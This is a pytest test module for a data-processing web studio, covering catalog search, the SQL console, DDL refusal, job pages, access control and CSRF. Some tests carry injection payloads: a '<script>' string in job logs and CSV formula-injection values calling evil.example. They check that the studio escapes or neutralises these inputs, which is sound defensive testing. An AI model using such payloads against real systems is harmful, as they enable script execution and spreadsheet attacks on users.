"""Studio in a real browser: search the catalog, open a group, run and download a query, a
refused DDL statement, a processing job's charts, and an annotator kept out; processing jobs
started from the form run inside the server (checked first, followed to the end, stopped
with it). Screenshots of each page go to tests/artifacts/.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
from collections.abc import Iterator
from html import unescape
from pathlib import Path

import httpx
import pytest

from loopworks.labeling.workforce import Workforce
from loopworks.metadata import database_url, open_engine
from loopworks.processing.config import ProcessingConfig
from loopworks.processing.job import run_processing_job
from loopworks.processing.scripts import ScriptJobs, ScriptJobSpec

from _browser import needs_browser, sign_in, snap
from conftest import EVENT_TIME, running_server

pytestmark = needs_browser


@pytest.fixture(scope="module")
def studio(tmp_path_factory: pytest.TempPathFactory, sample_csv: Path):
    """A home with a processed `reviews` group and its job record, served for the module."""
    home = tmp_path_factory.mktemp("studio") / "home"
    run_processing_job(ProcessingConfig(inputs=str(sample_csv), out=str(home.parent / "out"),
                                        workers=2, feature_group="reviews",
                                        event_time=EVENT_TIME), home=home)
    script = home.parent / "hello.py"  # and a script job (SageMaker Processing's kind)
    script.write_text("import sys\nprint('<script>window.pwned = 1</script> rows: 42')\n"
                      "print('warned', file=sys.stderr)\nsys.exit(3)\n")
    ScriptJobs(open_engine(database_url(home)), home / "processing-jobs").run(ScriptJobSpec(
        "hello-studio", ["python3", str(script)], instance_count=2, isolation="none"))
    workforce = Workforce(open_engine(database_url(home)))
    workforce.add_team("nlp")
    workforce.add_worker("boss", role="admin")
    workforce.add_worker("ana", teams_=["nlp"])
    with running_server(home, "operator-token") as url:
        yield url, workforce


def test_search_the_catalog_and_open_a_group(page, studio) -> None:
    url, workforce = studio
    sign_in(page, url, workforce, "boss")
    page.click("text=Studio")
    page.fill("#search", "attention")
    page.keyboard.press("Enter")
    page.wait_for_selector("#hits")
    assert "feature attention_mask" in page.inner_text("#hits")
    snap(page, "studio-catalog-search")
    page.click("#hits >> text=reviews")
    assert page.inner_text("h1").startswith("reviews")
    assert "List<int32>[128]" in page.inner_text("#definitions")
    assert "max_seq_length" in page.inner_text("#transformation")
    assert page.locator("#sample tbody tr").count() == 5
    snap(page, "studio-group")


def test_run_page_and_download_a_query(page, studio) -> None:
    url, workforce = studio
    sign_in(page, url, workforce, "boss")
    page.goto(f"{url}/studio/groups/reviews")
    page.click("text=Count by sentiment and split")
    assert "GROUP BY" in page.input_value("#sql")  # filled in, not run yet
    page.click("#run")
    page.wait_for_selector("#result")
    header = page.locator("#result thead th").all_inner_texts()
    assert header == ["split_type", "sentiment", "records"]
    shown = sum(int(t) for t in page.locator("#result tbody td:nth-child(3)").all_inner_texts())
    snap(page, "studio-console")
    with page.expect_download() as download:
        page.click("#download-csv")
    rows = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text())))
    assert sum(int(r["records"]) for r in rows) == shown > 0
    page.fill("#sql", "SELECT review_id FROM reviews_latest ORDER BY review_id")
    page.click("#run")
    page.wait_for_selector("#next")
    first = page.locator("#result tbody tr").first.inner_text()
    page.click("#next")
    page.wait_for_selector("#prev")
    assert page.locator("#result tbody tr").first.inner_text() != first
    assert "rows 51–100" in page.inner_text("#result-meta")
    page.goto(f"{url}/studio/console")
    assert "ORDER BY review_id" in page.inner_text("#recent")  # remembered for this person


def test_ddl_is_refused(page, studio) -> None:
    url, workforce = studio
    sign_in(page, url, workforce, "boss")
    page.goto(f"{url}/studio/console")
    page.fill("#sql", "DROP TABLE reviews")
    page.click("#run")
    page.wait_for_selector("#error")
    assert "DROP statements are refused" in page.inner_text("#error")
    snap(page, "studio-console-refused")
    page.fill("#sql", "SELECT count(*) AS n FROM reviews")
    page.click("#run")
    page.wait_for_selector("#result")
    assert int(page.locator("#result tbody td").first.inner_text()) > 0


def test_a_processing_job_shows_its_charts(page, studio) -> None:
    url, workforce = studio
    sign_in(page, url, workforce, "boss")
    page.goto(f"{url}/studio/jobs")
    page.click("#jobs tbody a")
    bars = page.locator("#length-chart rect")
    assert bars.count() == 17  # 16 length bins and the truncated ones
    assert sum(float(bars.nth(i).get_attribute("width")) for i in range(17)) > 0
    assert page.locator("#rejects-chart rect").count() == 3
    assert page.locator("#splits-chart rect").count() == 3
    assert page.inner_text("#truncated").endswith("%")
    snap(page, "studio-job")


def test_a_script_job_shows_its_instances_and_logs(page, studio) -> None:
    url, workforce = studio
    sign_in(page, url, workforce, "boss")
    page.goto(f"{url}/studio/jobs")
    row = page.locator("#script-jobs tbody tr", has_text="hello-studio")
    assert "Failed" in row.inner_text()
    row.locator("a").click()
    assert page.inner_text("#status") == "Failed"
    assert "algo-1 exited with code 3" in page.inner_text("#failure")
    assert page.locator("#instances tbody tr").count() == 2
    log = page.inner_text("#log-algo-2 + pre")
    assert "<script>window.pwned = 1</script> rows: 42" in log and "warned" in log
    assert page.evaluate("typeof window.pwned") == "undefined"  # shown, never run
    snap(page, "studio-script-job")


def test_annotators_are_kept_out(studio) -> None:
    url, workforce = studio
    with httpx.Client(base_url=url) as client:
        secret = workforce.issue_login_link("ana")
        page = client.get(f"/login/{secret}")
        token = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
        client.post(f"/login/{secret}", data={"csrf_token": token})
        for path in ["/studio", "/studio/console", "/studio/groups/reviews", "/studio/jobs",
                     "/studio/processing-jobs/hello-studio"]:
            response = client.get(path)
            assert response.status_code == 403 and "may not read feature groups" in \
                response.text, path
        refused = client.post("/studio/console", data={"sql": "SELECT 1",
                                                       "csrf_token": token})
        assert refused.status_code == 403


def test_an_admin_starts_a_job_from_the_form(studio, sample_csv: Path, tmp_path: Path) -> None:
    import time

    url, workforce = studio
    with httpx.Client(base_url=url) as client:
        secret = workforce.issue_login_link("boss")
        page = client.get(f"/login/{secret}")
        token = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
        client.post(f"/login/{secret}", data={"csrf_token": token})
        jobs_page = client.get("/studio/jobs")
        before = jobs_page.text.count("succeeded")
        token = re.search(r'name="csrf_token" value="([^"]+)"', jobs_page.text).group(1)
        started = client.post("/studio/jobs", data={
            "csrf_token": token, "input": str(sample_csv), "out": str(tmp_path / "form-out"),
            "max_seq_length": "64"})
        assert started.status_code == 303
        deadline = time.monotonic() + 120
        while client.get("/studio/jobs").text.count("succeeded") == before:
            assert time.monotonic() < deadline, "the job started from the form never finished"
            time.sleep(1)
        assert (tmp_path / "form-out" / "report.json").exists()
        forged = client.post("/studio/jobs", data={"input": str(sample_csv),
                                                   "out": str(tmp_path / "x")})
        assert forged.status_code == 403 and not (tmp_path / "x").exists()


def test_the_csv_download_neutralises_formulas(studio) -> None:
    url, workforce = studio
    with httpx.Client(base_url=url) as client:
        secret = workforce.issue_login_link("boss")
        page = client.get(f"/login/{secret}")
        token = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
        client.post(f"/login/{secret}", data={"csrf_token": token})
        console = client.get("/studio/console")
        token = re.search(r'name="csrf_token" value="([^"]+)"', console.text).group(1)
        sql = ("SELECT review_id, '=HYPERLINK(\"http://evil.example\",\"' || review_id || "
               "'\")' AS link, '@SUM(A1)' AS at, '+' || sentiment AS plus, "
               "'-' || review_id AS minus, split_type, -length(review_id) AS negative, "
               "-0.5 AS ratio FROM reviews_latest ORDER BY review_id LIMIT 5")
        download = client.post("/studio/console/download", data={
            "csrf_token": token, "sql": sql, "format": "csv"})
    assert download.status_code == 200, download.text
    assert download.headers["content-type"].startswith("text/csv")
    assert download.headers["x-content-type-options"] == "nosniff"
    rows = list(csv.DictReader(io.StringIO(download.text, newline="")))
    assert len(rows) == 5
    for row in rows:
        rid = row["review_id"]
        assert row["link"] == f"'=HYPERLINK(\"http://evil.example\",\"{rid}\")"
        assert row["at"] == "'@SUM(A1)" and row["plus"].startswith("'+")
        assert row["minus"] == f"'-{rid}"
        assert row["split_type"] in ("train", "validation", "test")  # plain text untouched
        assert int(row["negative"]) == -len(rid) and float(row["ratio"]) == -0.5
    numbers = download.text.splitlines()[1].split(",")[-2:]
    assert numbers == [str(-len(rows[0]["review_id"])), "-0.5"]  # unquoted numbers


# ------------------------------------------------------- jobs started from the form
def _token(html: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)


@contextlib.contextmanager
def _admin(url: str, workforce: Workforce) -> Iterator[httpx.Client]:
    """An httpx client signed in as the admin `boss`."""
    with httpx.Client(base_url=url, timeout=30) as client:
        secret = workforce.issue_login_link("boss")
        login = client.get(f"/login/{secret}")
        client.post(f"/login/{secret}", data={"csrf_token": _token(login.text)})
        yield client


def _start(client: httpx.Client, **form: str) -> httpx.Response:
    token = _token(client.get("/studio/jobs").text)
    return client.post("/studio/jobs", data={"csrf_token": token, "max_seq_length": "64",
                                             **form})


def _status(page: httpx.Response) -> str:
    return re.search(r'<small id="status">(\w+)</small>', page.text).group(1)


def _follow(client: httpx.Client, job_page: str, timeout: float = 120) -> list[str]:
    """The statuses a job's page shows, polled until the job ends."""
    import time

    seen = [_status(client.get(job_page))]
    deadline = time.monotonic() + timeout
    while seen[-1] in ("queued", "running"):
        assert time.monotonic() < deadline, f"{job_page} still {seen[-1]}"
        time.sleep(0.05)
        page = client.get(job_page)
        assert ("refresh" in page.headers) == (_status(page) in ("queued", "running"))
        if _status(page) != seen[-1]:
            seen.append(_status(page))
    return seen


def test_jobs_from_the_form_run_in_the_server_one_at_a_time(studio, sample_csv: Path,
                                                            tmp_path: Path) -> None:
    from loopworks.processing.report import JobReport

    url, workforce = studio
    with _admin(url, workforce) as client:
        first = _start(client, input=str(sample_csv), out=str(tmp_path / "first"))
        second = _start(client, input=str(sample_csv), out=str(tmp_path / "second"),
                        balance="1")
        assert first.status_code == second.status_code == 303, first.text
        assert first.headers["location"].startswith("/studio/jobs/process-")
        assert _status(client.get(second.headers["location"])) == "queued"  # behind the first
        assert client.get("/healthz").json()["status"] == "ok"  # the server answers meanwhile
        assert _follow(client, first.headers["location"]) == ["running", "succeeded"]
        assert _follow(client, second.headers["location"])[-1] == "succeeded"
        done = client.get(first.headers["location"]).text
        jobs = client.get("/studio/jobs").text
    report = JobReport.from_dict(json.loads((tmp_path / "first" / "report.json").read_text()))
    assert report.counts["rows_in"] == 3000 and report.counts["rows_out"] > 2900
    assert f'{report.counts["rows_in"]}</div>rows in' in done
    assert f'{report.counts["rows_out"]}</div>rows out' in done and 'id="progress"' not in done
    assert report.workers == min(os.cpu_count() or 1, 2)  # a small pool of spawned processes
    assert report.progress["encode"] == {"rows": report.counts["rows_out"],
                                         "total": report.counts["rows_out"]}
    balanced = json.loads((tmp_path / "second" / "report.json").read_text())
    assert balanced["options"]["balance"] and balanced["counts"]["rows_dropped_by_balancing"]
    assert jobs.count('<td class="status">succeeded</td>') >= 2


@pytest.mark.parametrize(("field", "value", "message"), [
    ("max_seq_length", "0", "max_seq_length must be at least 1"),
    ("max_seq_length", "100000", "max_seq_length must be at most 8192"),
    ("max_seq_length", "lots", "max_seq_length must be a whole number; got 'lots'"),
    ("input", "{tmp}/missing.csv", "input file '{tmp}/missing.csv' does not exist"),
    ("out", "{csv}/out", "--out {csv}/out cannot be created: {csv} is a file, not a folder"),
    ("feature_group", "My Reviews", "invalid feature group name 'My Reviews'"),
])
def test_a_bad_form_value_shows_the_processing_error_and_starts_nothing(
        studio, sample_csv: Path, tmp_path: Path, field: str, value: str,
        message: str) -> None:
    url, workforce = studio
    value, message = (text.format(tmp=tmp_path, csv=sample_csv) for text in (value, message))
    form = {"input": str(sample_csv), "out": str(tmp_path / "out"), field: value}
    with _admin(url, workforce) as client:
        before = client.get("/studio/jobs").text.count('href="/studio/jobs/process-')
        refused = _start(client, **form)
        after = client.get("/studio/jobs").text.count('href="/studio/jobs/process-')
    assert refused.status_code == 422
    shown = unescape(re.search(r'<p class="error" id="form-error" role="alert">([^<]*)</p>',
                               refused.text).group(1))
    assert shown.startswith(message)
    assert f'value="{value}"' in unescape(refused.text)  # the form keeps what was typed
    assert after == before and not (tmp_path / "out").exists()


def test_the_form_says_what_the_command_line_says(studio, sample_csv: Path) -> None:
    """One check for both: the message on the form is the one `loopworks process` prints."""
    from loopworks.errors import LoopworksError
    from loopworks.processing import check_processing_job

    url, workforce = studio
    out = sample_csv.parent  # holds the CSV: not an output loopworks wrote
    with pytest.raises(LoopworksError) as raised:
        check_processing_job(ProcessingConfig(inputs=str(sample_csv), out=str(out)))
    with _admin(url, workforce) as client:
        refused = _start(client, input=str(sample_csv), out=str(out))
    assert refused.status_code == 422 and str(raised.value) in unescape(refused.text)


def test_a_failing_job_shows_why_on_its_page(studio, tmp_path: Path) -> None:
    csv_file = tmp_path / "scores.csv"
    csv_file.write_text("text,stars\nlovely,5\nawful,1\n")
    url, workforce = studio
    with _admin(url, workforce) as client:
        started = _start(client, input=str(csv_file), out=str(tmp_path / "out"))
        assert started.status_code == 303, started.text
        assert _follow(client, started.headers["location"])[-1] == "failed"
        page = client.get(started.headers["location"]).text
    error = re.search(r'<p class="error" id="job-error" role="alert">([^<]*)</p>', page)
    assert error and "scores.csv: no text column 'review_body'; columns are text, stars" in \
        unescape(error.group(1))
    assert not (tmp_path / "out").exists()
    assert not list(tmp_path.glob(".out.tmp-*"))  # the work folder is gone too


def test_stopping_the_server_stops_a_running_job_and_says_so(
        tmp_path: Path, sample_csv: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import time

    from loopworks.processing.report import FileJobStore

    home = tmp_path / "home"
    workforce = Workforce(open_engine(database_url(home)))
    workforce.add_worker("boss", role="admin")
    monkeypatch.setenv("LOOPWORKS_WORKERS", "2")  # the pool of spawned workers, even on 1 CPU
    with running_server(home, "operator-token") as url, _admin(url, workforce) as client:
        started = _start(client, input=str(sample_csv), out=str(tmp_path / "out"))
        job_id = started.headers["location"].rsplit("/", 1)[1]
        deadline = time.monotonic() + 30
        while _status(client.get(started.headers["location"])) != "running":
            assert time.monotonic() < deadline
            time.sleep(0.05)
    report = FileJobStore(home / "jobs").get(job_id)  # the server has stopped (within 10 s)
    assert report.status == "failed" and report.finished_at
    assert report.error == "the server stopped while the job ran; start it again"
    assert not (tmp_path / "out").exists() and not list(tmp_path.glob(".out.tmp-*"))


def test_an_admin_follows_a_job_in_the_browser(page, studio, sample_csv: Path,
                                               tmp_path: Path) -> None:
    url, workforce = studio
    sign_in(page, url, workforce, "boss")
    page.goto(f"{url}/studio/jobs")
    page.fill("input[name=input]", str(sample_csv))
    page.fill("input[name=out]", str(tmp_path / "browser-out"))
    page.fill("input[name=feature_group]", "Not A Name")
    page.click("#start")
    assert "invalid feature group name 'Not A Name'" in page.inner_text("#form-error")
    snap(page, "studio-job-refused")
    page.fill("input[name=feature_group]", "")
    page.fill("input[name=max_seq_length]", "96")
    page.click("#start")
    page.wait_for_selector("#status")
    assert page.inner_text("#status") in ("queued", "running")
    assert "Started processing" in page.inner_text("#flash")
    snap(page, "studio-job-running")
    # The page reloads itself until the job ends.
    page.wait_for_selector("#status:text-is('succeeded')", timeout=120_000)
    assert "max_seq_length 96" in page.inner_text("p.meta")
    assert page.locator("#splits-chart rect").count() == 3
